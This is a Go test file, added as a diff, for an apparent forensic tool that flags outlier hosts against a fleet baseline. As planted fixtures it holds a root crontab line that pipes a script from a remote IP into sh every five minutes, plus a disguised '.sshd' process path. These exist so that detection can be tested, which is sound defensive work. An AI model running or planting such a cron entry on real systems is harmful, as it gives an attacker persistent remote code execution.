@@ -1,0 +1,135 @@
+package analyze_test
+
+import (
+	"context"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/diffy-dfir/diffy/analyze"
+	"github.com/diffy-dfir/diffy/collect"
+	"github.com/diffy-dfir/diffy/diffytest/fleet"
+)
+
+// fleetBaseline analyzes hosts against a baseline fleet with the zero
+// Baseline (its clock fixed).
+func fleetBaseline(t *testing.T, hosts, base []collect.Result) *analyze.Report {
+	t.Helper()
+	return analyzeOK(t, analyze.Baseline{Now: func() time.Time { return collectedAt }}, analyze.Input{Key: "k", Results: hosts, Baseline: base})
+}
+
+// TestBaselineFleet: against a baseline of 200 hosts that vary (a
+// splayed minute, a daemon on a random port on a tenth of them), hosts
+// that vary the same way are no outliers, and what appeared since is: a
+// row no baseline host has, a new value where the baseline's are
+// dominated, a daemon under another parent, and a usual row gone.
+func TestBaselineFleet(t *testing.T) {
+	const n = 200
+	rng := rand.New(rand.NewPCG(3, 4))
+	vary := func(i int, h varHost) varHost {
+		h.add("crontab", collect.Row{"event": "", "minute": fmt.Sprint(rng.IntN(60)), "hour": "*/6", "day_of_month": "*", "month": "*",
+			"day_of_week": "*", "command": "root /usr/bin/chef-client -z", "path": "/etc/cron.d/chef"})
+		if i%10 == 0 {
+			port := fmt.Sprint(1024 + rng.IntN(30000))
+			h.add("listening_ports", collect.Row{"address": "0.0.0.0", "port": port, "protocol": "6", "name": "java", "path": "/usr/bin/java", "cmdline": "/usr/bin/java -jar /opt/app/app.jar", "pid": "4000"})
+		}
+		return h
+	}
+	base := make([]varHost, n)
+	now := make([]varHost, n)
+	for i := range n {
+		base[i] = vary(i, baseHost(i))
+		now[i] = vary(i, baseHost(i))
+	}
+	now[11].add("crontab", collect.Row{"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
+		"command": "curl -fsSL http://203.0.113.7/x.sh | sh", "path": "/var/spool/cron/crontabs/root"})
+	now[22]["processes"][1]["path"] = "/usr/local/sbin/.sshd"
+	for _, r := range now[33]["processes"] {
+		if r["name"] == "rsyslogd" {
+			r["parent"] = now[33]["processes"][2]["pid"] // cron
+		}
+	}
+	now[44]["processes"] = slices.DeleteFunc(now[44]["processes"], func(r collect.Row) bool { return r["name"] == "rsyslogd" })
+	rep := fleetBaseline(t, varResults(now), varResults(base))
+	if rep.BaselineHosts != n || rep.BaselineInstance != "" {
+		t.Errorf("baseline hosts %d, instance %q; want %d and none", rep.BaselineHosts, rep.BaselineInstance, n)
+	}
+	want := []string{hostID(11), hostID(22), hostID(33), hostID(44)}
+	if ids := outlierIDs(rep); !slices.Equal(ids, want) {
+		t.Fatalf("outliers %v, want %v", ids, want)
+	}
+	for i, why := range []string{"no baseline host (of 200) has a crontab row like it", `path="/usr/local/sbin/.sshd", which no baseline host has`,
+		`parent="cron", which no baseline host has, where 200 of the 200 baseline hosts with this row have "systemd"`,
+		"200 of the 200 baseline hosts have a processes row like it; this host and 0 other(s) of the 200 have none"} {
+		h := rep.Outliers()[i]
+		if f := h.Findings[0]; !f.Deciding || !strings.Contains(f.Why, why) {
+			t.Errorf("%s: first finding %s %s %q, want %q", h.InstanceID, f.Kind, f.CommandID, f.Why, why)
+		}
+	}
+}
+
+// TestBaselineFleetWeekEarlier: the simulated group (every family of
+// variation) against its own collection of a week before (some hosts
+// replaced since, each rollout a step behind), with an implant spread to
+// a share of the hosts since: exactly the implant's hosts are flagged.
+func TestBaselineFleetWeekEarlier(t *testing.T) {
+	n := 800
+	if testing.Short() || raceEnabled {
+		n = 300
+	}
+	sim := fleet.NewSim(fleet.SimConfig{Hosts: n, Seed: 2, Families: fleet.AllFamilies, Attacks: fleet.Attacks{Campaign: true}})
+	week := sim.WeekEarlier()
+	var now, base []collect.Result
+	for i := range n {
+		now = append(now, sim.Results(i)...)
+		base = append(base, week.Results(i)...)
+	}
+	rep := fleetBaseline(t, now, base)
+	ev := sim.Truth().Evaluate(rep)
+	t.Logf("fleet baseline: %v", ev)
+	if ev.Precision < 1 || ev.Recall < 1 || ev.Top3 < 1 {
+		t.Errorf("%v: want exactly the campaign's hosts, its rows first", ev)
+	}
+}
+
+// TestBaselineStreamBatches: the Report of a Baseline stream given the
+// Results shuffled, in batches of random sizes, is Analyze's on all of
+// them at once, with one baseline instance and with a fleet.
+func TestBaselineStreamBatches(t *testing.T) {
+	f := fleet.Generate(fleet.Config{Seed: 41, Hosts: 120, Roles: 3, CanaryFraction: 0.05, CompromisedFraction: 0.03, PlantsPerHost: 2})
+	res := f.Results(collectedAt)
+	one := f.Hosts[0].Results(collectedAt)
+	many := fleet.Generate(fleet.Config{Seed: 42, Hosts: 150, Roles: 3, CanaryFraction: 0.05}).Results(collectedAt)
+	a := analyze.Baseline{Now: func() time.Time { return collectedAt }}
+	ctx := context.Background()
+	for name, base := range map[string][]collect.Result{"one instance": one, "fleet": many} {
+		want := reportJSON(t, analyzeOK(t, a, analyze.Input{Key: "k", Results: res, Baseline: base}))
+		rng := rand.New(rand.NewPCG(5, uint64(len(base))))
+		shuffled := cloneResults(res)
+		rng.Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
+		s, err := a.NewStream("k", base)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for rest := shuffled; len(rest) > 0; {
+			k := min(len(rest), 1+rng.IntN(40))
+			if err := s.Add(ctx, rest[:k]); err != nil {
+				t.Fatal(err)
+			}
+			rest = rest[k:]
+		}
+		rep, err := s.Report(ctx, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := reportJSON(t, rep); got != want {
+			t.Errorf("%s: the stream's report differs from Analyze's", name)
+		}
+		if len(rep.Outliers()) == 0 {
+			t.Errorf("%s: no outlier; the test checks less than it says", name)
+		}
+	}
+}
